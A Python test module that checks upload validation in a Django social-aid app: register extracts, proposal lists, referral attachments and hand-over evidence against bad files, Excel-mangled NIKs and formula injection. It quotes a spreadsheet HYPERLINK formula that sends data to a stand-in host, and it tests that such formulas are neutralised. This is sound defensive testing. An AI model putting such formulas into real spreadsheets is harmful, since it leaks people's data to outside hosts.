"""Every upload meets a corpus of bad files (tests/security/bad_files.py), through its page and
its API: the user reads what is wrong (and where), nothing partial is stored, nothing breaks.

The uploads: the DTSEN register extract and a proposal list (assessments), referral
attachments (cases, also from an outreach visit in rehab) and the signed hand-over record
(aid). A list is checked in the request and read by a Celery job; the jobs run here as the
worker runs them (`task.apply`), in the test's transaction. Lists that Excel writes in other
encodings are read right, mangled NIKs are refused by row and column, and cells that a
spreadsheet would run come back out of every export as text.
"""

import csv
import datetime
import html
import io
import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from aid.models import Handover, HandoverItem, Programme
from aid.services import handovers as handover_services
from assessments import tabular
from assessments.models import (
    BatchChunk,
    BatchRow,
    EligibilityBatch,
    RegisterBadRow,
    RegisterRow,
    RegisterSnapshot,
)
from assessments.services import eligibility
from cases import services as case_services
from cases.models import Referral, ReferralAttachment
from cases.nik import MSG_NIK_SCIENTIFIC, MSG_NIK_SERIAL_ZERO
from rehab.models.episodes import Outreach
from rehab.services import outreach as outreach_services
from tests.aid.conftest import TODAY, approve, fund, make_item, make_programme, verified
from tests.assessments.test_eligibility import ready_snapshot
from tests.conftest import (
    OKI_VILLAGE,
    client_kwargs,
    consent_kwargs,
    pdf_file,
    referral_form,
    said,
)
from tests.security import bad_files

pytestmark = pytest.mark.django_db

EXTRACT_DATE = "2026-01-02"


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture(scope="session")
def huge(tmp_path_factory) -> Path:
    """The 60 MB file, written once."""
    return bad_files.write_huge(tmp_path_factory.mktemp("huge") / "rekaman.bin")


def uploaded(bad: bad_files.BadFile) -> SimpleUploadedFile:
    content = bad.content.read_bytes() if isinstance(bad.content, Path) else bad.content
    return SimpleUploadedFile(bad.name, content, bad.content_type)


def stored_files(root: Path) -> set[Path]:
    return {path for path in root.rglob("*") if path.is_file()} if root.exists() else set()


def api_as(user) -> APIClient:
    api = APIClient()
    api.force_authenticate(user)
    return api


def browser_as(user) -> Client:
    browser = Client()
    browser.force_login(user)
    return browser


# --- what the user reads -----------------------------------------------------------------


# A parameter as Django's messages (%(name)s) and DRF's ({name}) write it.
_PLACEHOLDER = re.compile(r"%\((\w+)\)([#0 +-]*\d*(?:\.\d+)?[sdf])|\{(\w+)\}")


def says(message: str, **params) -> re.Pattern:
    """The Indonesian text of `message`: the parameters given filled in as the code fills
    them, any other parameter matching whatever value the message names."""
    template = said(message)
    out, position = [], 0
    for match in _PLACEHOLDER.finditer(template):
        out.append(re.escape(template[position : match.start()]))
        name, spec, braced = match.groups()
        if braced:
            name, spec = braced, "s"
        out.append(re.escape(("%" + spec) % params[name]) if name in params else ".+?")
        position = match.end()
    out.append(re.escape(template[position:]))
    return re.compile("".join(out), re.DOTALL)


def _texts(value) -> list[str]:
    """The messages in an API error's value: a text, or lists and objects of them."""
    if isinstance(value, dict):
        return [text for item in value.values() for text in _texts(item)]
    if isinstance(value, list):
        return [text for item in value for text in _texts(item)]
    return [str(value)]


class Said:
    """What a response shows: the page's text (unescaped), or the API body, with the field
    each message stands next to."""

    def __init__(self, response):
        assert response.status_code < 500, response.status_code
        self.status = response.status_code
        if response["Content-Type"].startswith("application/json"):
            body = response.json()
            error = body.get("error") if isinstance(body, dict) else None
            error = error if isinstance(error, dict) else {}
            self.fields = {
                name: " ".join(_texts(value)) for name, value in error.get("fields", {}).items()
            }
            # An error: its message and those of its fields; else the whole body (a job's).
            texts = [*_texts(error.get("message", "")), *self.fields.values()] if error else []
            self.text = " ".join(texts or _texts(body))
        else:
            self.text = html.unescape(response.content.decode())
            form = (response.context or {}).get("form")
            errors = form.errors if form is not None else {}
            self.fields = {name: " ".join(messages) for name, messages in errors.items()}

    def shows(self, pattern: re.Pattern, field: str | None = None) -> bool:
        if field is not None and field in self.fields:
            return bool(pattern.search(self.fields[field]))
        return bool(pattern.search(self.text)) and field is None

    def __repr__(self):
        return f"<{self.status} fields={self.fields} text=...{self.text[-3000:]}>"


EMPTY = "The submitted file is empty."


# --- the uploads -------------------------------------------------------------------------


class ListUpload:
    """A list checked in the request and read by a job: every bad file is refused at once,
    but for one that breaks below its first rows, whose job fails with nothing kept."""

    vias = ("page", "api")
    header: list[str]
    name: str

    def corpus(self, huge: Path) -> dict[str, bad_files.BadFile]:
        files = bad_files.list_corpus(self.header, self.name)
        files["huge"] = bad_files.BadFile(f"{self.name}.csv", huge, "text/csv")
        return files

    def expected(self, key: str, bad: bad_files.BadFile) -> re.Pattern:
        return {
            "empty": says(EMPTY),
            "header_only": says(tabular.MSG_FILE_NO_ROWS),
            "wrong_columns": says(
                tabular.MSG_COLUMNS_MISSING,
                missing=self.missing,
                found="nama lengkap, alamat rumah, no hp",
            ),
            "binary_junk": says(tabular.MSG_FILE_BINARY),
            "zip_bomb_xlsx": says(tabular.MSG_FILE_PACKED_TOO_TIGHT, size="64"),
            "old_excel": says(tabular.MSG_FILE_OLD_EXCEL),
            "damaged_xlsx": says(tabular.MSG_XLSX_DAMAGED),
            "broken_midway": says(tabular.MSG_CSV_CELL_UNENDING, row=3, limit=131072),
            "huge": self.huge_expected(),
        }[key]

    asynchronous = {"broken_midway"}


class RegisterUpload(ListUpload):
    key = "register"
    header = bad_files.REGISTER_HEADER
    name = "dtsen"
    missing = "id_dtsen, nik, tgl_lahir, jenis_kelamin, kode_wilayah, desil"

    def huge_expected(self):
        # An extract may be 300 MB: a 60 MB one is refused for what it holds, read no further
        # than its first 64 kB.
        return says(tabular.MSG_FILE_BINARY)

    def prepare(self, cast, via):
        return None

    def post(self, via, cast, target, file):
        fields = {"file": file, "source": "DTSEN Kemensos", "extract_date": EXTRACT_DATE}
        if via == "page":
            return self.browser(cast).post(reverse("assessments:register-import"), fields)
        return api_as(cast.supervisor).post(
            "/api/v1/register-imports/", fields, format="multipart", HTTP_ACCEPT_LANGUAGE="id"
        )

    def browser(self, cast):
        return browser_as(cast.supervisor)

    def stored(self):
        return (
            RegisterSnapshot.objects.count(),
            RegisterRow.objects.count(),
            RegisterBadRow.objects.count(),
        )

    def jobs(self):
        return RegisterSnapshot.objects.all()

    def run(self, job):
        from assessments.tasks.register import register_import

        register_import.apply(args=(str(job.pk),))
        job.refresh_from_db()
        return job

    def job_failed(self, job) -> bool:
        return job.status == RegisterSnapshot.Status.FAILED

    def load(self, job):
        return self.run(job)

    def kept(self) -> list[tuple]:
        """(row, NIK, name, address) of every person the import keeps."""
        return list(
            RegisterRow.objects.order_by("row_number").values_list(
                "row_number", "nik", "name", "address"
            )
        )

    def kept_rows(self):
        return RegisterRow.objects.count() + RegisterBadRow.objects.count()

    def job_seen(self, via, cast, job):
        if via == "page":
            return self.browser(cast).get(reverse("assessments:register-detail", args=[job.pk]))
        return api_as(cast.supervisor).get(
            f"/api/v1/register-imports/{job.pk}/", HTTP_ACCEPT_LANGUAGE="id"
        )


class ProposalUpload(ListUpload):
    key = "proposal_list"
    header = bad_files.PROPOSAL_HEADER
    name = "usulan"
    missing = "nik, kode_wilayah"

    def huge_expected(self):
        return says("The file is %(size).1f MB; the limit is %(limit)d MB.", size=60.0, limit=50)

    def prepare(self, cast, via):
        programme = Programme.objects.create(
            name="Bantuan ATENSI Reguler", kind=Programme.Kind.REGULAR, year=2026,
            organisation=cast.dinsos, max_decile=4,
        )  # fmt: skip
        return {"programme": programme, "snapshot": ready_snapshot(cast)}

    def post(self, via, cast, target, file):
        fields = {
            "programme": str(target["programme"].pk), "snapshot": str(target["snapshot"].pk),
            "file": file,
        }  # fmt: skip
        if via == "page":
            return self.browser(cast).post(
                reverse("assessments:batch-create"), {**fields, "name": "Usulan", "source": "file"}
            )
        return api_as(cast.caseworker).post(
            "/api/v1/eligibility-batches/", fields, format="multipart", HTTP_ACCEPT_LANGUAGE="id"
        )

    def browser(self, cast):
        return browser_as(cast.caseworker)

    def stored(self):
        return (
            EligibilityBatch.objects.count(),
            BatchRow.objects.count(),
            BatchChunk.objects.count(),
        )

    def jobs(self):
        return EligibilityBatch.objects.all()

    def run(self, job):
        from assessments.tasks.eligibility import load_batch

        load_batch.apply(args=(str(job.pk),))
        job.refresh_from_db()
        return job

    def job_failed(self, job) -> bool:
        return job.status == EligibilityBatch.Status.FAILED

    def load(self, job):
        """What the worker does: read the list, then screen each chunk."""
        for key in eligibility.batch_load(batch_id=job.pk):
            eligibility.batch_screen_chunk(batch_id=job.pk, key=key)
        job.refresh_from_db()
        return job

    def kept(self) -> list[tuple]:
        return list(
            BatchRow.objects.order_by("row_number").values_list(
                "row_number", "nik", "name", "address"
            )
        )

    def kept_rows(self):
        return BatchRow.objects.count() + BatchChunk.objects.count()

    def job_seen(self, via, cast, job):
        if via == "page":
            return self.browser(cast).get(reverse("assessments:batch-detail", args=[job.pk]))
        return api_as(cast.caseworker).get(
            f"/api/v1/eligibility-batches/{job.pk}/", HTTP_ACCEPT_LANGUAGE="id"
        )


class AttachmentUpload:
    """A file checked by its content in the request; nothing is stored when it is refused."""

    asynchronous = frozenset()
    field: str
    stem: str

    def corpus(self, huge: Path) -> dict[str, bad_files.BadFile]:
        files = bad_files.attachment_corpus(self.stem)
        files["huge"] = bad_files.BadFile(f"{self.stem}.pdf", huge, "application/pdf")
        return files

    def expected(self, key: str, bad: bad_files.BadFile) -> re.Pattern:
        not_a_document = (
            "%(name)s is not a PDF, JPG or PNG file (its content was checked, not its name)."
        )
        damaged = "%(name)s is a damaged image."
        return {
            "empty": says(EMPTY),
            "header_only_pdf": says("%(name)s is not a complete PDF file.", name=bad.name),
            "header_only_png": says(damaged, name=bad.name),
            "truncated_png": says(damaged, name=bad.name),
            "binary_junk": says(not_a_document, name=bad.name),
            "csv_as_pdf": says(not_a_document, name=bad.name),
            "zip_bomb_xlsx": says(not_a_document, name=bad.name),
            "huge": says(
                "%(name)s is %(size).1f MB; the limit is %(limit).0f MB.",
                name=bad.name,
                size=60.0,
                limit=5.0,
            ),
        }[key]


class ReferralAttachmentUpload(AttachmentUpload):
    """A referral's files: a good PDF goes first, so that a partial referral would show."""

    key = "referral_attachments"
    vias = ("page", "api", "outreach_page")
    field = "attachments"
    stem = "surat-rujukan"

    def prepare(self, cast, via):
        return outreach_services.outreach_record(
            by=cast.caseworker, visited_on=datetime.date(2026, 1, 8), village=OKI_VILLAGE,
            reported_by=Outreach.ReportedBy.LKS, reporter="LKS Cahaya Pulih",
            person_name="Feri Saputra", findings="Warga melaporkan pemakaian sabu.",
        )  # fmt: skip

    def post(self, via, cast, visit, file):
        files = [pdf_file(), file]
        if via == "api":
            data = referral_form(attachments=files)
            del data["nik"]
            return api_as(cast.referrer).post(
                "/api/v1/referrals/", data, format="multipart", HTTP_ACCEPT_LANGUAGE="id"
            )
        if via == "page":
            return browser_as(cast.referrer).post(
                reverse("cases:referral-create"), referral_form(attachments=files)
            )
        return browser_as(cast.caseworker).post(
            reverse("rehab:outreach-refer", args=[visit.pk]),
            referral_form(source="community", attachments=files),
        )

    def stored(self):
        return (
            Referral.objects.count(),
            ReferralAttachment.objects.count(),
            Outreach.objects.filter(referral__isnull=False).count(),
        )


class EvidenceUpload(AttachmentUpload):
    """The signed record's photo or scan: with the hand-over, or added to it later."""

    key = "handover_evidence"
    vias = ("page", "page_later", "api")
    field = "evidence"
    stem = "bast-ditandatangani"

    def prepare(self, cast, via):
        programme = make_programme(cast)
        food = make_item(programme)
        fund(cast, programme, 2_000_000)
        client = case_services.client_register(by=cast.caseworker, **client_kwargs())
        case_services.consent_record(client=client, by=cast.caseworker, **consent_kwargs())
        proposal = verified(cast, client, programme, [(food, 1)])
        approve(cast, [proposal])
        if via == "page":
            return proposal
        return handover_services.handover_record(
            proposal=proposal, by=cast.caseworker, handed_on=TODAY, place="Rumah Singgah"
        )

    def post(self, via, cast, target, file):
        browser = browser_as(cast.caseworker)
        if via == "page":
            data = {
                "items": [str(i.pk) for i in target.items.all()], "recipient": "self",
                "handed_on": TODAY.isoformat(), "place": "Rumah Singgah", "evidence": file,
            }  # fmt: skip
            return browser.post(reverse("aid:handover-create", args=[target.pk]), data)
        if via == "page_later":
            return browser.post(
                reverse("aid:handover-evidence-add", args=[target.pk]), {"evidence": file},
                follow=True,
            )  # fmt: skip
        return api_as(cast.caseworker).post(
            f"/api/v1/handovers/{target.pk}/evidence/", {"evidence": file},
            format="multipart", HTTP_ACCEPT_LANGUAGE="id",
        )  # fmt: skip

    def stored(self):
        return (
            Handover.objects.count(),
            HandoverItem.objects.count(),
            Handover.objects.exclude(evidence="").count(),
        )


UPLOADS = [RegisterUpload(), ProposalUpload(), ReferralAttachmentUpload(), EvidenceUpload()]
LIST_KEYS = ["empty", "header_only", "wrong_columns", "binary_junk", "huge", "zip_bomb_xlsx",
             "old_excel", "damaged_xlsx", "broken_midway"]  # fmt: skip
ATTACHMENT_KEYS = ["empty", "header_only_pdf", "header_only_png", "truncated_png", "binary_junk",
                   "huge", "csv_as_pdf", "zip_bomb_xlsx"]  # fmt: skip
CASES = [
    pytest.param(upload, via, key, id=f"{upload.key}-{via}-{key}")
    for upload in UPLOADS
    for via in upload.vias
    for key in (LIST_KEYS if isinstance(upload, ListUpload) else ATTACHMENT_KEYS)
]


# --- every bad file, every upload ----------------------------------------------------------


@pytest.mark.parametrize(("upload", "via", "key"), CASES)
def test_a_bad_file_is_refused_with_a_clear_message_and_nothing_is_kept(
    cast, huge, media_root, upload, via, key
):
    target = upload.prepare(cast, via)
    bad = upload.corpus(huge)[key]
    before, files_before = upload.stored(), stored_files(media_root)

    answer = Said(upload.post(via, cast, target, uploaded(bad)))
    expected = upload.expected(key, bad)

    if key in upload.asynchronous:
        # The header and the first row are sound: the job finds the fault and keeps nothing.
        assert answer.status in (202, 302), answer
        [job] = upload.jobs()
        job = upload.run(job)
        assert upload.job_failed(job), job.error
        assert upload.kept_rows() == 0
        assert expected.search(job.error), job.error
        assert Said(upload.job_seen(via, cast, job)).shows(expected)
        return
    assert answer.status in (200, 400), answer
    field = None if via == "page_later" else getattr(upload, "field", "file")
    assert answer.shows(expected, field), answer
    assert upload.stored() == before
    assert stored_files(media_root) == files_before


# --- lists as Excel writes them ------------------------------------------------------------

LISTS = [
    pytest.param(RegisterUpload(), id="register"),
    pytest.param(ProposalUpload(), id="proposal_list"),
]


@pytest.mark.parametrize("via", ["page", "api"])
@pytest.mark.parametrize(
    "made",
    [bad_files.cp1252_list, bad_files.excel_indonesian_list],
    ids=["windows_1252", "bom_and_semicolons"],
)
@pytest.mark.parametrize("upload", LISTS)
def test_a_list_saved_by_excel_in_windows_1252_or_with_a_bom_and_semicolons_is_read_right(
    cast, upload, made, via
):
    target = upload.prepare(cast, via)

    answer = upload.post(via, cast, target, uploaded(made(upload.header, upload.name)))

    assert answer.status_code in (202, 302), answer.content
    [job] = upload.jobs()
    upload.load(job)
    kept = upload.kept()
    assert [(number, name) for number, _nik, name, _address in kept] == [
        (2, "José Núñez"), (3, "Añjani Siregar"), (4, "Chloé Ratna"),
    ]  # fmt: skip
    assert [nik for _number, nik, _name, _address in kept] == [bad_files.nik(i) for i in (1, 2, 3)]
    if made is bad_files.excel_indonesian_list:  # a comma inside a cell stays in the cell
        assert kept[0][3] == "Jl. Sudirman No. 1, RT 01"


def refused_row_on_the_register_page(page: str, number: int, column: str, message: re.Pattern):
    rows = re.findall(r"<tr><td>(\d+)</td><td><code>(\w*)</code></td>(.*?)</tr>", page)
    return any(int(n) == number and c == column and message.search(rest) for n, c, rest in rows)


def problem_on_the_batch_page(page: str, number: int, column: str, message: re.Pattern):
    rows = re.findall(r"<tr>\s*<td>(\d+)</td>(.*?)</tr>", page, re.DOTALL)
    pattern = re.compile(re.escape(column + ": ") + message.pattern, re.DOTALL)
    return any(int(n) == number and pattern.search(rest) for n, rest in rows)


# The refusal of each mangled row, and the value it quotes (the register's report shows it;
# a screened list masks whatever stood in a NIK cell).
MANGLED = {
    "xlsx": (
        bad_files.mangled_niks_xlsx,
        {2: (tabular.MSG_NUMBER_NIK, "1.60205E+15"), 3: (tabular.MSG_NUMBER_NIK, "1.60205E+15")},
    ),
    "csv": (
        bad_files.mangled_niks_csv,
        {2: (MSG_NIK_SCIENTIFIC, "1,60205E+15"), 3: (MSG_NIK_SERIAL_ZERO, None)},
    ),
}


@pytest.mark.parametrize("kind", MANGLED)
@pytest.mark.parametrize("upload", LISTS)
def test_niks_a_spreadsheet_mangled_are_refused_by_row_and_column_and_exact_ones_read(
    cast, upload, kind
):
    made, messages = MANGLED[kind]
    quoted = isinstance(upload, RegisterUpload)
    refused = {
        row: says(message, **({"value": value} if value and quoted else {}))
        for row, (message, value) in messages.items()
    }
    target = upload.prepare(cast, "page")
    answer = upload.post("page", cast, target, uploaded(made(upload.header, upload.name)))
    assert answer.status_code == 302
    [job] = upload.jobs()

    upload.load(job)

    # The exact NIKs (one typed with Excel's apostrophe) are read; no NIK is guessed back.
    kept = {number: nik for number, nik, _name, _address in upload.kept()}
    assert kept.pop(4) == bad_files.nik(3) and kept.pop(5) == bad_files.nik(4)
    assert set(kept.values()) <= {""}
    page = html.unescape(Said(upload.job_seen("page", cast, job)).text)
    if isinstance(upload, RegisterUpload):
        bad = (
            api_as(cast.supervisor)
            .get(f"/api/v1/register-imports/{job.pk}/bad-rows/", HTTP_ACCEPT_LANGUAGE="id")
            .json()["results"]
        )
        assert [(r["row_number"], r["column"]) for r in bad] == [(2, "nik"), (3, "nik")]
        for row, message in refused.items():
            assert refused_row_on_the_register_page(page, row, "nik", message), page
            assert any(message.search(r["message"]) for r in bad if r["row_number"] == row)
    else:
        results = (
            api_as(cast.caseworker)
            .get(f"/api/v1/eligibility-batches/{job.pk}/results/", HTTP_ACCEPT_LANGUAGE="id")
            .json()["results"]
        )
        problems = {r["row_number"]: r["problems"] for r in results}
        assert problems[4] == problems[5] == []
        for row, message in refused.items():
            [problem] = problems[row]
            assert problem["column"] == "nik" and message.search(problem["message"])
            assert problem_on_the_batch_page(page, row, "nik", message), page


# --- formulas ------------------------------------------------------------------------------


def exported_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def inert(cells) -> bool:
    """No cell is a formula, and no text would become one if typed back in."""
    return all(
        cell.data_type != "f"
        and not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")))
        for cell in cells
    )


@pytest.mark.parametrize("upload", LISTS)
def test_cells_a_spreadsheet_would_run_are_kept_as_plain_text(cast, upload):
    target = upload.prepare(cast, "api")
    upload.post("api", cast, target, uploaded(bad_files.formulas_csv(upload.header, upload.name)))
    [job] = upload.jobs()

    upload.load(job)

    kept = upload.kept()
    assert [(name, address) for _n, _nik, name, address in kept] == [
        (text, text) for text in bad_files.FORMULAS.values()
    ]


FORMULA_WITHOUT_RESULT = says(
    tabular.MSG_FORMULA_NO_VALUE, formula='=HYPERLINK("http://contoh.invalid/?d="&\u2026'
)


@pytest.mark.parametrize("upload", LISTS)
def test_an_xlsx_formula_is_read_as_the_result_saved_with_it_or_refused_by_row_and_column(
    cast, upload
):
    target = upload.prepare(cast, "page")
    upload.post("page", cast, target, uploaded(bad_files.formulas_xlsx(upload.header, upload.name)))
    [job] = upload.jobs()

    upload.load(job)

    kept = {number: (nik, name, address) for number, nik, name, address in upload.kept()}
    assert kept[2][1] == "Budi Hartono"  # the link's text, as the spreadsheet showed it
    assert kept[4][0] == bad_files.nik(3)  # the NIK the formula put together
    assert kept[5][2] == bad_files.FORMULAS[2]  # text that only looks like a formula
    page = html.unescape(Said(upload.job_seen("page", cast, job)).text)
    if isinstance(upload, RegisterUpload):
        assert 3 not in kept
        assert refused_row_on_the_register_page(page, 3, "nama", FORMULA_WITHOUT_RESULT), page
    else:
        assert kept[3][1] == ""
        assert problem_on_the_batch_page(page, 3, "nama", FORMULA_WITHOUT_RESULT), page


def test_the_eligibility_export_writes_every_formula_of_the_list_as_text(cast):
    upload = ProposalUpload()
    target = upload.prepare(cast, "page")
    upload.post("page", cast, target, uploaded(bad_files.formulas_csv(upload.header, "usulan")))
    [job] = upload.jobs()
    upload.load(job)

    for user, query in ((cast.caseworker, ""), (cast.supervisor, "?nik=full")):
        response = browser_as(user).get(reverse("assessments:batch-export", args=[job.pk]) + query)

        assert response.status_code == 200
        cells = exported_cells(response.content)
        names = [
            c.value for c in cells if c.column == 3 and c.row > 1 and c.parent.title != "Summary"
        ]
        assert names[: len(bad_files.FORMULAS)] == ["'" + t for t in bad_files.FORMULAS.values()]
        assert inert(cells)


def test_the_refused_row_report_of_the_register_is_inert_in_csv_and_xlsx(cast):
    upload = RegisterUpload()
    upload.post("page", cast, None, uploaded(bad_files.formulas_xlsx(upload.header, "dtsen")))
    [job] = upload.jobs()
    upload.load(job)
    browser = upload.browser(cast)

    xlsx = browser.get(reverse("assessments:register-bad-rows-xlsx", args=[job.pk]))
    csv_report = browser.get(reverse("assessments:register-bad-rows-csv", args=[job.pk]))

    cells = exported_cells(xlsx.content)
    assert [c.value for c in cells if c.row == 2][:2] == [3, "nama"]
    assert inert(cells)
    text = b"".join(csv_report.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][:3] == ["3", "nama", "FORMULA_NO_VALUE"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# --- bad form and API inputs around the uploads ---------------------------------------------


def _register_api(cast, data, **kwargs):
    kwargs.setdefault("format", "multipart")
    return api_as(cast.supervisor).post(
        "/api/v1/register-imports/", data, HTTP_ACCEPT_LANGUAGE="id", **kwargs
    )


def _good_register_file():
    return uploaded(bad_files.cp1252_list(bad_files.REGISTER_HEADER, "dtsen"))


def _batch_page_without_file(cast, t):
    return browser_as(cast.caseworker).post(
        reverse("assessments:batch-create"),
        {"name": "Usulan", "programme": t["programme"].pk, "snapshot": t["snapshot"].pk,
         "source": "file"},
    )  # fmt: skip


def _batch_api_with_file_and_clients(cast, t):
    return api_as(cast.caseworker).post(
        "/api/v1/eligibility-batches/",
        {"programme": str(t["programme"].pk), "snapshot": str(t["snapshot"].pk),
         "client_ids": [str(t["client"].pk)],
         "file": uploaded(bad_files.cp1252_list(bad_files.PROPOSAL_HEADER, "usulan"))},
        format="multipart", HTTP_ACCEPT_LANGUAGE="id",
    )  # fmt: skip


def _referral_api_with_text_for_a_file(cast, t):
    return api_as(cast.referrer).post(
        "/api/v1/referrals/", {**referral_form(attachments="surat.pdf"), "nik": ""},
        format="multipart", HTTP_ACCEPT_LANGUAGE="id",
    )  # fmt: skip


def _evidence_api_without_file(cast, t):
    return api_as(cast.caseworker).post(
        f"/api/v1/handovers/{t['handover'].pk}/evidence/", {}, format="multipart",
        HTTP_ACCEPT_LANGUAGE="id",
    )  # fmt: skip


def _evidence_page_without_file(cast, t):
    return browser_as(cast.caseworker).post(
        reverse("aid:handover-evidence-add", args=[t["handover"].pk]), {}, follow=True
    )


NOT_A_FILE = "The submitted data was not a file. Check the encoding type on the form."
REGISTER_FIELDS = {"source": "DTSEN", "extract_date": EXTRACT_DATE}
# name: (send it, the field the message stands by (None: above the form), the message)
BAD_INPUTS = {
    "register_page_without_file": (
        lambda cast, t: browser_as(cast.supervisor).post(
            reverse("assessments:register-import"), REGISTER_FIELDS
        ),
        "file", "This field is required.",
    ),
    "register_api_without_file": (
        lambda cast, t: _register_api(cast, REGISTER_FIELDS), "file", "No file was submitted.",
    ),
    "register_api_text_for_a_file": (
        lambda cast, t: _register_api(cast, {**REGISTER_FIELDS, "file": "nik;nama"}),
        "file", NOT_A_FILE,
    ),
    "register_api_json_body": (
        lambda cast, t: _register_api(cast, {**REGISTER_FIELDS, "file": "x"}, format="json"),
        None, 'Unsupported media type "{media_type}" in request.',
    ),
    "register_api_future_extract_date": (
        lambda cast, t: _register_api(
            cast, {**REGISTER_FIELDS, "file": _good_register_file(), "extract_date": "2999-01-01"}
        ),
        "extract_date", "The extract date lies in the future.",
    ),
    "register_api_blank_source": (
        lambda cast, t: _register_api(
            cast, {**REGISTER_FIELDS, "file": _good_register_file(), "source": "   "}
        ),
        "source", "This field may not be blank.",
    ),
    "proposal_page_without_file": (
        _batch_page_without_file, "file", "Choose the file of the proposal list.",
    ),
    "proposal_api_file_and_clients": (
        _batch_api_with_file_and_clients, None,
        "Upload a proposal list or choose clients, not both.",
    ),
    "referral_api_text_for_an_attachment": (
        _referral_api_with_text_for_a_file, "attachments", NOT_A_FILE,
    ),
    "evidence_api_without_file": (_evidence_api_without_file, "evidence", "No file was submitted."),
    "evidence_page_without_file": (
        _evidence_page_without_file, None, "Choose the photo or scan of the signed record.",
    ),
}  # fmt: skip


def _stored_anywhere():
    return [
        upload.stored() for upload in (RegisterUpload(), ProposalUpload(),
                                       ReferralAttachmentUpload(), EvidenceUpload())
    ]  # fmt: skip


@pytest.fixture
def targets(cast, make_client):
    """What the inputs refer to: a programme and a ready snapshot, a client, a hand-over."""
    return {
        **ProposalUpload().prepare(cast, "api"), "client": make_client(serial=5),
        "handover": EvidenceUpload().prepare(cast, "api"),
    }  # fmt: skip


@pytest.mark.parametrize("name", BAD_INPUTS)
def test_a_bad_input_around_an_upload_is_refused_with_a_clear_message_and_nothing_kept(
    cast, targets, media_root, name
):
    send, field, message = BAD_INPUTS[name]
    before, files_before = _stored_anywhere(), stored_files(media_root)

    answer = Said(send(cast, targets))

    assert answer.status in (200, 400, 415), answer
    assert answer.shows(says(message), field), answer
    assert _stored_anywhere() == before
    assert stored_files(media_root) == files_before
